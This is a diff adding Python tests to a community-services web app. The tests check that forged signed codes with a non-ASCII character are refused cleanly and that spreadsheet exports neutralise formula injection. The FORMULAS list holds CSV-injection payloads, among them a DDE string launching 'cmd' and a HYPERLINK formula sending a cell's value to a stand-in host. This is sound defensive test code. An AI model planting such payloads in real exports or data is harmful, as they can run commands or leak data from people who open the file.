@@ -304,3 +304,77 @@ def test_a_hostile_bin_side_scan_is_refused_and_stores_nothing(client, world, en
     assert _snapshot(engine) + (_count(engine, CheckIn),) == before
     r = client.post(f"/api/v1/communities/{world.community.id}/checkins", content=body, headers=world.h("volunteer") | JSON)
     assert r.status_code == 201, r.text  # the same scan, untampered, is taken
+
+
+# --- non-ASCII in signed codes ----------------------------------------------------------------
+
+
+def test_a_signed_code_with_a_non_ascii_character_is_refused_not_a_500(client, world, engine):
+    """A door-plate payload, a consent code or a calendar key ending in 'é' reached hmac.compare_digest
+    as text (a TypeError: 500); an upload with one such scan failed whole, the volunteer's queue stuck."""
+    from tests.field import scan, setup_field, yesterday_at
+
+    f = setup_field(client, world)
+    genuine = _genuine(engine, world.households[0])
+    tampered = genuine[:-1] + "é"
+    r = client.post("/api/v1/scan/resolve", json={"payload": tampered}, headers=world.h("volunteer"))
+    _error(r, 400, "forged_code")
+    c = world.community.id
+    r = client.post(f"/api/v1/communities/{c}/checkins", json=scan(f["station_id"], tampered, yesterday_at(7, 30)), headers=world.h("volunteer"))
+    _error(r, 400, "forged_code")
+    batch = [scan(f["station_id"], tampered, yesterday_at(7, 30)), scan(f["station_id"], _genuine(engine, world.households[1]), yesterday_at(7, 30))]
+    r = client.post(f"/api/v1/communities/{c}/checkins/batch", json={"scans": batch}, headers=world.h("volunteer"))
+    assert r.status_code == 200, r.text
+    assert [(x["status"], x["reason"]) for x in r.json()["results"]] == [("rejected", "forged_code"), ("accepted", None)]
+
+    code = client.post(f"/api/v1/households/{world.households[0].id}/consent-codes", headers=world.h("resident")).json()["code"]
+    counter = {"consent_code": code[:-1] + "é", "items": [{"item_id": 1, "quantity": 1}], "idempotency_key": "attack-" + "x" * 8}
+    r = client.post(f"/api/v1/communities/{c}/counter-redemptions", json=counter, headers=world.h("clerk"))
+    _error(r, 403, "invalid_consent_code")
+    link = client.get(f"/api/v1/communities/{c}/recycling-calendar-link", headers=world.h("resident")).json()["url"]
+    assert client.get(link[link.index("/ical/"):] + "é").status_code == 404
+
+
+# --- formulas in spreadsheets -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("e.x/?"&B2,"点我")', "@SUM(1)", "=1+2", "+cmd|' /C calc'!A0", "-2+3"]
+
+
+def test_text_that_a_spreadsheet_would_evaluate_stays_text_in_every_export(client, world, engine):
+    """A building, unit and door plate named like formulas go into the point-totals CSV with a leading
+    apostrophe (shown as the same text); an activity titled like one is a text cell in the monthly XLSX."""
+    import csv
+    import io
+
+    import openpyxl
+    from sqlmodel import Session
+
+    from app.places.models import Building, Household
+
+    with Session(engine) as s:
+        b = s.get(Building, world.buildings[0].id)
+        b.name = FORMULAS[0]
+        h = s.get(Household, world.households[0].id)
+        h.unit, h.door_plate = FORMULAS[1], FORMULAS[2]
+        h2 = s.get(Household, world.households[1].id)
+        h2.door_plate = FORMULAS[3]
+        s.add_all([b, h, h2])
+        s.commit()
+    r = client.get(f"/api/v1/communities/{world.community.id}/reports/point-totals", params={"month": "2026-10"},
+                   headers=world.h("committee"))
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8")[1:])))
+    cells = {cell for row in rows[1:] for cell in row[1:6]}
+    assert {"'" + f for f in FORMULAS[:4]} <= cells
+    assert not any(c[:1] in "=+-@" for c in cells if c)
+
+    body = {"client_id": "act-formula-" + "x" * 8, "kind": "lecture", "title": FORMULAS[0], "held_on": "2026-10-05",
+            "place": FORMULAS[1], "participants": 3}
+    assert client.post(f"/api/v1/communities/{world.community.id}/activities", json=body, headers=world.h("committee")).status_code == 201
+    x = client.get(f"/api/v1/streets/{world.street.id}/reports/monthly", params={"month": "2026-10", "format": "xlsx"},
+                   headers=world.h("street_viewer"))
+    assert x.status_code == 200, x.text
+    book = openpyxl.load_workbook(io.BytesIO(x.content))
+    written = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in written if c.data_type == "f"]
+    assert FORMULAS[0] in {c.value for c in written}  # what a person reads is unchanged
